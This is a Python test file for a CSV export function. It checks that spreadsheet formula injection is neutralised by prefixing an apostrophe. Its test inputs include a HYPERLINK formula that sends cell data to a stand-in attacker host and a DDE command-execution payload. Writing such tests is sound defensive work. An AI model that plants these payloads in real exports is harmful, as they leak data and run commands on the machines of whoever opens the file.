"""Exports: what a spreadsheet opens is shown, not executed."""

import csv
import io
import math
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from vigil.export import csv_text


def cell(value: object) -> str:
    """The one cell of an export, as a reader of CSV finds it."""
    header, row = csv.reader(io.StringIO(csv_text(["x"], [{"x": value}]), newline=""))
    assert header == ["x"]
    return row[0] if row else ""


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=1+1",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tplain",
        "  =1+1",
        '"=1+1',
        "'=1+1",
        ' " =1+1',
        "\u00a0=1+1",
        "＝1+1",
        "-5",
    ],
)
def test_row_45_a_formula_in_text_is_escaped(text):
    """A leading apostrophe makes it text in every spreadsheet."""
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["France", "a=b", "1-2", "Île-de-France", "'quoted'", "", " x"])
def test_other_text_stays_as_it_is(text):
    """No character is added that was not needed."""
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (-5, "-5"),
        (-0.25, "-0.25"),
        (Decimal("-1.50"), "-1.50"),
        (1e300, "1e+300"),
        (True, "true"),
        (None, ""),
        (math.nan, ""),
        (-math.inf, ""),
        (date(2021, 1, 30), "2021-01-30"),
        (datetime(2021, 1, 30, 19, 5, tzinfo=UTC), "2021-01-30T19:05:00+00:00"),
        (["=a", 1], '["=a", 1]'),
        ({"day": date(2021, 1, 30)}, '{"day": "2021-01-30"}'),
    ],
)
def test_numbers_stay_numbers_and_nothing_is_lost(value, shown):
    """A negative number is no formula; what has no number is blank."""
    assert cell(value) == shown


def test_names_of_columns_are_escaped_too():
    """They come from whoever wrote the query."""
    assert csv_text(["=1+1", "n"], [{"=1+1": "a,b", "n": 1}]) == '\'=1+1,n\n"a,b",1\n'


def test_without_rows_there_is_a_header():
    """A spreadsheet shows that the query found nothing."""
    assert csv_text(["series", "n"], []) == "series,n\n"
